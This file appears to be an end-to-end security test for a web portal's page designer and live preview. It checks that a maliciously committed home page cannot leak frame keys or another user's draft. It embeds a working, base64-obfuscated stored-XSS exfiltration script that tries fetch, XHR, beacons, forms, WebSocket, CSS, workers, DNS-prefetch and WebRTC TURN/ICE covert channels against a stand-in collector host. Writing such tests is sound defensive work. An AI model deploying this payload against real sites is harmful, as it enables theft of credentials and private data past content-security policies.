// A page planted by one author cannot send another author's frame key, or what it reads of
// their workspace, anywhere (issue 31 item 3; docs/operations.md "Security headers and
// time-outs", "The designer's frame origin").
//
// Mallory commits a change to the Crew Portal's home page: an image whose onerror runs a script
// that reads everything it can (location, referrer, base URL, cookies, storage, the URLs of the
// loaded resources, the admin's uncommitted draft of another page) and tries to send it to an
// outside collector — a second HTTP server on another port and a UDP socket, standing for "any
// host" — by fetch (GET and POST), XHR, an <img>, navigator.sendBeacon, a form post, WebSocket,
// EventSource, CSS @import and url(), a nested frame, a worker (importScripts and fetch),
// <link> prefetch/preconnect/dns-prefetch/preload, WebRTC (a TURN server whose USERNAME is the
// key, a STUN server, and a remote candidate whose ICE ufrag is the key), and, once done, as
// its last step: leaving (window.open, a target=_blank link, navigating the top and itself, a
// meta refresh), or WebRTC from a nested srcdoc frame. The admin then opens the page in the
// designer and in a live preview. The collector must receive nothing, not even a datagram or
// a TCP connection without a request (a frame navigation refused by frame-src still
// preconnected, resolving the host name: a way out by DNS). Before the Connection-Allowlist
// (internal/preview/policy.go), WebRTC sent the key out of the designer as a TURN USERNAME and
// an ICE ufrag, and a live preview's page also left by window.open, a target=_blank link and
// navigating itself.
//
// On the frame origin (--frame-addr) the frame's URL carries no key at all: its first URL has a
// single-use ticket (refused the second time), exchanged for an HttpOnly cookie, and nothing
// the script can read — location, referrer, base URL, cookies, resource URLs, the document —
// holds the ticket or a read token.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import dgram from 'node:dgram';
import fs from 'node:fs';
import { useE2E, apiSession, grantGroup, signIn, expectVisible, eventually } from '../harness/index.js';
import { designer, goTo, pageRoute, workspaceFile } from '../harness/pages.js';

const DOMAIN_ID = 1;
const PORTAL_ID = 1; // the demo Crew Portal
const MALLORY = { username: 'mallory', password: 'mallory-pass-1', firstName: 'Mallory', lastName: 'Planter', email: 'mallory@example.test' };
const DRAFT = 'Admin secret draft, not committed';
// What no URL, cookie or message the frame's script can read may hold: a read token or a ticket.
const KEYS = /pwp1\.|pwf1\./;

/** A STUN message's attribute of the given type, or undefined. */
function stunAttribute(msg, type) {
  for (let at = 20; at + 4 <= msg.length; ) {
    const t = msg.readUInt16BE(at);
    const len = msg.readUInt16BE(at + 2);
    if (t === type) return msg.subarray(at + 4, at + 4 + len);
    at += 4 + Math.ceil(len / 4) * 4;
  }
  return undefined;
}

/** A TURN server's 401 to an Allocate without credentials: the client's next Allocate carries USERNAME. */
function stunUnauthorized(request) {
  const attr = (type, value) => {
    const head = Buffer.alloc(4);
    head.writeUInt16BE(type, 0);
    head.writeUInt16BE(value.length, 2);
    return Buffer.concat([head, value, Buffer.alloc((4 - (value.length % 4)) % 4)]);
  };
  const body = Buffer.concat([
    attr(0x0009, Buffer.concat([Buffer.from([0, 0, 4, 1]), Buffer.from('Unauthorized')])), // ERROR-CODE 401
    attr(0x0014, Buffer.from('collector')), // REALM
    attr(0x0015, Buffer.from('nonce-0123456789')), // NONCE
  ]);
  const head = Buffer.from(request.subarray(0, 20)); // magic cookie and transaction id
  head.writeUInt16BE(0x0113, 0); // Allocate error response
  head.writeUInt16BE(body.length, 2);
  return Buffer.concat([head, body]);
}

/**
 * "Any host": an HTTP server on another port that records every connection and request, and a
 * UDP socket on its port that records every datagram (STUN, TURN: WebRTC does not go through
 * fetch) and answers a TURN Allocate with a 401, as a TURN server does, to see the USERNAME.
 */
async function startCollector() {
  const received = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      received.push({ method: req.method, url: req.url, body: body.slice(0, 2000) });
      res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
      res.end('ok');
    });
  });
  // A connection without a request: a preconnect (or a WebSocket/TURN over TCP refused later).
  server.on('connection', () => received.push({ method: 'TCP', url: 'connection', body: '' }));
  server.on('upgrade', (req, socket) => {
    received.push({ method: req.method, url: req.url, body: '' });
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const udp = dgram.createSocket('udp4');
  udp.on('message', (msg, from) => {
    const type = msg.length >= 20 ? msg.readUInt16BE(0) : -1;
    const username = type >= 0 ? stunAttribute(msg, 0x0006)?.toString('latin1') : undefined;
    received.push({ method: 'UDP', url: `/stun-0x${type.toString(16).padStart(4, '0')}${username ? ' USERNAME ' + username : ''}`, body: msg.toString('latin1') });
    if (type === 0x0003 && username === undefined) udp.send(stunUnauthorized(msg), from.port, from.address);
  });
  await new Promise((resolve) => udp.bind(server.address().port, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    received,
    close: () => Promise.all([new Promise((r) => server.close(r)), new Promise((r) => udp.close(r))]),
  };
}

/** The planted script: reads what it can, tries every way out, then marks the page. */
function plantedScript(collector) {
  return `(async () => {
  const C = ${JSON.stringify(collector)};
  const blocked = new Set();
  document.addEventListener('securitypolicyviolation', (e) => blocked.add(e.effectiveDirective));
  const read = (f) => { try { return String(f()); } catch (e) { return 'blocked: ' + e.name; } };
  let draft;
  try { draft = await (await fetch('pages/crew-schedule.html', { cache: 'no-store' })).text(); } catch (e) { draft = 'blocked: ' + e.name; }
  const loot = {
    href: read(() => location.href),
    referrer: read(() => document.referrer),
    base: read(() => document.baseURI),
    cookie: read(() => document.cookie),
    storage: read(() => JSON.stringify(localStorage)),
    resources: read(() => performance.getEntries().map((e) => e.name).join(' ')),
    draft: draft.slice(0, 300),
  };
  const data = JSON.stringify(loot);
  const q = '?d=' + encodeURIComponent(data);
  const settle = (p) => Promise.race([p.catch(() => {}), new Promise((r) => setTimeout(r, 3000))]);
  const tries = [
    settle(fetch(C + '/fetch' + q, { mode: 'no-cors' })),
    settle(fetch(C + '/fetch-post', { method: 'POST', mode: 'no-cors', body: data })),
    settle(new Promise((resolve) => {
      const x = new XMLHttpRequest();
      x.onloadend = resolve;
      try { x.open('POST', C + '/xhr'); x.send(data); } catch (e) { resolve(); }
    })),
    settle(new Promise((resolve) => { const i = new Image(); i.onload = i.onerror = resolve; i.src = C + '/img' + q; })),
    settle(new Promise((resolve) => {
      const sink = document.createElement('iframe');
      sink.name = 'planted-sink';
      sink.style.display = 'none';
      document.body.appendChild(sink);
      sink.onload = resolve;
      const f = document.createElement('form');
      f.method = 'POST';
      f.action = C + '/form';
      f.target = 'planted-sink';
      const input = document.createElement('input');
      input.name = 'd';
      input.value = data;
      f.appendChild(input);
      document.body.appendChild(f);
      f.submit();
    })),
  ];
  try { navigator.sendBeacon(C + '/beacon', data); } catch (e) {} // queued: the policy refuses it when it leaves
  const waitFor = (ms, f) => settle(new Promise((resolve) => { Promise.resolve().then(() => f(resolve)).catch(resolve); setTimeout(resolve, ms); }));
  // The key (or the page's path) where only a name fits: a TURN USERNAME, an ICE ufrag, a host name.
  const key = (loot.href.match(/pw[a-z]1[._][^/?#]+/) || ['no-key'])[0];
  const host = new window.URL(C).host; // window's: in an onerror handler, URL is document.URL
  tries.push(
    waitFor(3000, (done) => { const ws = new WebSocket(C.replace(/^http/, 'ws') + '/websocket' + q); ws.onopen = ws.onerror = ws.onclose = done; }),
    waitFor(3000, (done) => { const es = new EventSource(C + '/eventsource' + q); es.onopen = es.onerror = () => { es.close(); done(); }; }),
    waitFor(2000, () => {
      const style = document.createElement('style');
      style.textContent = '@import url("' + C + '/css-import' + q + '"); body { background-image: url("' + C + '/css-url' + q + '"); }';
      document.head.appendChild(style);
    }),
    waitFor(2000, (done) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.onload = done; f.src = C + '/iframe' + q; document.body.appendChild(f); }),
    waitFor(3000, (done) => {
      const src = 'try { importScripts(' + JSON.stringify(C + '/worker-import' + q) + '); } catch (e) {}' +
        'fetch(' + JSON.stringify(C + '/worker-fetch' + q) + ', { mode: "no-cors" }).catch(() => {}).finally(() => postMessage(1));';
      const w = new Worker(window.URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
      w.onmessage = w.onerror = done;
    }),
    waitFor(2000, () => {
      for (const [rel, as] of [['preconnect'], ['prefetch'], ['preload', 'fetch'], ['modulepreload'], ['dns-prefetch']]) {
        const link = document.createElement('link');
        link.rel = rel;
        if (as) link.as = as;
        link.crossOrigin = 'anonymous';
        link.href = rel === 'dns-prefetch' ? '//' + key.replace(/[^a-z0-9-]/gi, '-').slice(0, 60) + '.dns-prefetch.invalid/' : C + '/' + rel + q;
        document.head.appendChild(link);
      }
    }),
    // WebRTC (not fetch, no connect-src): a TURN server with the key as USERNAME, a STUN server.
    waitFor(4000, (done) => {
      const pc = new RTCPeerConnection({ iceServers: [
        { urls: 'turn:' + host + '?transport=udp', username: key, credential: 'x' },
        { urls: 'stun:' + host },
      ] });
      pc.createDataChannel('out');
      pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && done();
      pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(done);
    }),
    // WebRTC without any server: connectivity checks to a remote candidate, USERNAME its ufrag.
    waitFor(4000, async () => {
      const pc = new RTCPeerConnection();
      pc.createDataChannel('out');
      const offer = await pc.createOffer();
      await pc.setLocalDescription(offer);
      const ufrag = key.replace(/[^A-Za-z0-9+/]/g, '+').slice(0, 250);
      const answer = offer.sdp
        .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:' + ufrag)
        .replace(/a=ice-pwd:.*/g, 'a=ice-pwd:' + 'p'.repeat(24))
        .replace(/a=setup:actpass/g, 'a=setup:active');
      await pc.setRemoteDescription({ type: 'answer', sdp: answer });
      const [ip, port] = host.split(':');
      await pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2130706431 ' + ip + ' ' + port + ' typ host', sdpMid: pc.getTransceivers()[0]?.mid ?? '0', sdpMLineIndex: 0 });
    }),
  );
  await Promise.all(tries);
  document.body.dataset.loot = data;
  document.body.dataset.blocked = [...blocked].sort().join(' ');
  document.body.dataset.planted = 'done';
  // Then the steps the test asks for (data-step), each the page's last: they replace the page.
  const later = (ms, f) => setTimeout(() => { try { f(); } catch (e) {} }, ms);
  const steps = {
    // The ways that leave the page: a new window, a link to a new one, navigating the top, a
    // meta refresh, navigating itself.
    leave: () => {
      later(0, () => window.open(C + '/window-open' + q));
      later(200, () => { const a = document.createElement('a'); a.href = C + '/a-blank' + q; a.target = '_blank'; document.body.appendChild(a); a.click(); });
      later(400, () => { top.location.href = C + '/navigate-top' + q; });
      later(1500, () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + C + '/meta-refresh' + q; document.head.appendChild(m); });
      later(3000, () => { location.href = C + '/navigate-self' + q; });
    },
    // WebRTC from a nested frame of the page's making (about:srcdoc: it inherits the page's
    // policies, and no script of the page can change them).
    nested: () => {
      const f = document.createElement('iframe');
      f.style.display = 'none';
      f.srcdoc = '<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: ' + JSON.stringify('turn:' + host + '?transport=udp') +
        ', username: ' + JSON.stringify(key) + ', credential: "x" }] }); pc.createDataChannel("out"); pc.createOffer().then((o) => pc.setLocalDescription(o));</' + 'script>';
      document.body.appendChild(f);
    },
  };
  const poll = setInterval(() => {
    const step = steps[document.body.dataset.step];
    if (!step) return;
    clearInterval(poll);
    step();
  }, 50);
})()`;
}

/** The home page with the planted script (an image's onerror: the engine injects pages as HTML). */
const plantedHome = (collector) =>
  `<article class="pw-page">
  <div data-pw-widget="home-hero"></div>
  <div data-pw-widget="home-cards"></div>
  <img src="planted-missing.png" alt="" onerror="eval(atob('${Buffer.from(plantedScript(collector)).toString('base64')}'))">
</article>
`;

/** Mallory commits the planted home page; the admin opens the portal (her commit in it) and drafts. */
async function plant(server, collector) {
  const admin = await apiSession(server);
  await grantGroup(admin, DOMAIN_ID, 'Planters', ['portal_read', 'portal_write', 'branch_read', 'asset_read', 'asset_write', 'asset_create', 'page_read', 'page_write', 'code_read', 'code_write'], [MALLORY.username]);
  const mallory = await apiSession(server, MALLORY.username, MALLORY.password);
  await mallory.ok('GET', `portal/${DOMAIN_ID}/${PORTAL_ID}/open`);
  const read = await mallory.call('GET', `assets/${DOMAIN_ID}/${PORTAL_ID}/src/pages/home.html`);
  assert.equal(read.status, 200, read.text);
  await mallory.ok('POST', `assets/${DOMAIN_ID}/${PORTAL_ID}/src/pages/home.html`, { data: plantedHome(collector.url) }, { headers: { 'If-Match': read.etag } });
  const commit = await mallory.ok('POST', `portal/${DOMAIN_ID}/${PORTAL_ID}/commits`, { message: 'Home page update' });
  assert.equal(commit.committed, true);
  await admin.ok('GET', `portal/${DOMAIN_ID}/${PORTAL_ID}/open`);
  // The admin's uncommitted work, which the planted script reads (the frame may read its files).
  fs.writeFileSync(workspaceFile(server, admin.userId, PORTAL_ID, 'pages/crew-schedule.html'), `<article class="pw-page"><p>${DRAFT}</p></article>\n`);
  return admin;
}

/** Waits for the planted script to finish in a frame or page, and answers what it saw. */
async function plantedReport(scope) {
  const body = scope.locator('body[data-planted="done"]');
  await expectVisible(body, { timeout: 30_000 });
  return {
    loot: JSON.parse(await body.getAttribute('data-loot')),
    blocked: (await body.getAttribute('data-blocked')).split(' ').filter(Boolean),
  };
}

/** The designer of the planted home page, as the admin, until the script is done. */
async function openPlantedDesigner(e2e) {
  const page = await e2e.newPage();
  await signIn(page);
  await goTo(page, pageRoute(DOMAIN_ID, PORTAL_ID, 'master', 'home'));
  const d = designer(page);
  await expectVisible(d.heading, { timeout: 20_000 });
  await expectVisible(d.frame.locator('[data-pw-widget="home-hero"]').first(), { timeout: 30_000 });
  return { page, d, report: await plantedReport(d.frame) };
}

/** What the planted script did: it ran and read the draft, and every way out was refused. */
function assertContained(report, collector, where) {
  assert.match(report.loot.draft, new RegExp(DRAFT), `${where}: the script read the admin's draft (it runs)`);
  const got = collector.received.map((r) => `${r.method} ${r.url.split('?')[0]}${KEYS.test((r.url + r.body).replaceAll('+', '.')) ? ' (with a key)' : ''}`);
  assert.deepEqual(got, [], `${where}: the collector received ${got.join(', ')}`);
  for (const directive of ['connect-src', 'form-action', 'img-src']) {
    assert.ok(report.blocked.includes(directive), `${where}: the policy refused ${directive} (refused: ${report.blocked})`);
  }
}

/** How long a step of the planted script (its last) may take to reach the collector. */
const STEP_MS = 5000;

/** The planted script takes a last step (steps: leave, nested) in scope (its frame or page): nothing reaches the collector. */
async function assertStepSendsNothing(scope, collector, step, where) {
  await scope.locator('body[data-planted="done"]').evaluate((body, s) => (body.dataset.step = s), step);
  await new Promise((r) => setTimeout(r, STEP_MS));
  const got = collector.received.map((r) => `${r.method} ${r.url.split('?')[0]}`);
  assert.deepEqual(got, [], `${where}, step ${step}: the collector received ${got.join(', ')}`);
}

describe('frame security: a planted page on the app origin', { timeout: 300_000 }, () => {
  // The whole browser: its headless shell reports no form-action violation of the frame's policy.
  const e2e = useE2E({ server: { users: [MALLORY] }, fullBrowser: true });
  let collector;
  let admin;

  before(async () => {
    collector = await startCollector();
    admin = await plant(e2e.server, collector);
  });
  after(() => collector?.close());

  it('sends nothing out of the designer frame', { timeout: 120_000 }, async () => {
    collector.received.length = 0;
    const { d, report } = await openPlantedDesigner(e2e);
    assertContained(report, collector, 'designer');
    await assertStepSendsNothing(d.frame, collector, 'leave', 'designer');
    // Chromium 156's renderer crashes on RTCPeerConnection in a frame that inherited
    // webrtc=block: nothing leaves, but the designer's tab is gone, so a page of its own.
    await assertStepSendsNothing((await openPlantedDesigner(e2e)).d.frame, collector, 'nested', 'designer');
  });

  it('sends nothing out of a live preview', { timeout: 120_000 }, async () => {
    collector.received.length = 0;
    // The admin's API session ended when the browser signed in: a new one (previews persist).
    admin = await apiSession(e2e.server);
    let preview = await admin.ok('POST', `preview/${DOMAIN_ID}/${PORTAL_ID}`, { type: 'PORTAL_LIVE', page: 'home' });
    await eventually(async () => {
      preview = await admin.ok('GET', `preview/${DOMAIN_ID}/${PORTAL_ID}/${preview.id}`);
      assert.equal(preview.status, 'READY');
    }, { timeout: 60_000, message: 'the live preview becomes ready' });
    const viewer = await e2e.newPage();
    await viewer.goto(preview.link);
    assertContained(await plantedReport(viewer), collector, 'live preview');
    await assertStepSendsNothing(viewer, collector, 'leave', 'live preview');
  });
});

describe('frame security: the designer frame on its own origin (--frame-addr)', { timeout: 300_000 }, () => {
  const e2e = useE2E({ server: { users: [MALLORY], args: ['--frame-addr', '127.0.0.1:0'] }, fullBrowser: true });
  let collector;

  before(async () => {
    collector = await startCollector();
    await plant(e2e.server, collector);
  });
  after(() => collector?.close());

  it('no key in any URL the frame can read, a single-use ticket, and nothing sent out', { timeout: 120_000 }, async () => {
    const { page, d, report } = await openPlantedDesigner(e2e);
    assertContained(report, collector, 'designer on the frame origin');

    // The frame has an origin of its own, not the app's.
    const src = await d.frameElement.getAttribute('src');
    const frameOrigin = new URL(src).origin;
    assert.notEqual(frameOrigin, new URL(e2e.server.baseURL).origin);
    assert.match(src, /\/api\/v1\/workspace\/pwf1\.[^/]+\/1\/1\//, `the iframe's src has a ticket: ${src}`);

    // Nothing the script could read holds a key: its location, referrer, base URL, cookies,
    // resource URLs, nor anything in its document.
    for (const [what, value] of Object.entries(report.loot)) {
      assert.doesNotMatch(value, KEYS, `the frame's ${what} holds a key: ${value.slice(0, 300)}`);
    }
    assert.ok(report.loot.href.startsWith(`${frameOrigin}/api/v1/workspace/frame/1/1/`), `the frame's location: ${report.loot.href}`);
    assert.equal(report.loot.cookie, '', 'the cookie is HttpOnly');
    const frame = page.frames().find((f) => f.url().startsWith(frameOrigin));
    assert.ok(frame, 'the frame is on the frame origin');
    const seen = await frame.evaluate(() => ({
      html: document.documentElement.outerHTML,
      navigation: performance.getEntriesByType('navigation').map((e) => e.name).join(' '),
      history: String(history.length),
    }));
    for (const [what, value] of Object.entries(seen)) assert.doesNotMatch(value, KEYS, `the frame's ${what} holds a key`);

    // The ticket was used once: the same URL again is refused.
    const again = await fetch(src, { redirect: 'manual' });
    assert.equal(again.status, 401, 'a used ticket is refused');
    assert.equal(again.headers.get('set-cookie'), null);

    // The designer still works there: the engine's outlines reach the app.
    await expectVisible(d.outline('home-hero'), { timeout: 20_000 });
    await assertStepSendsNothing(d.frame, collector, 'leave', 'designer on the frame origin');
  });
});
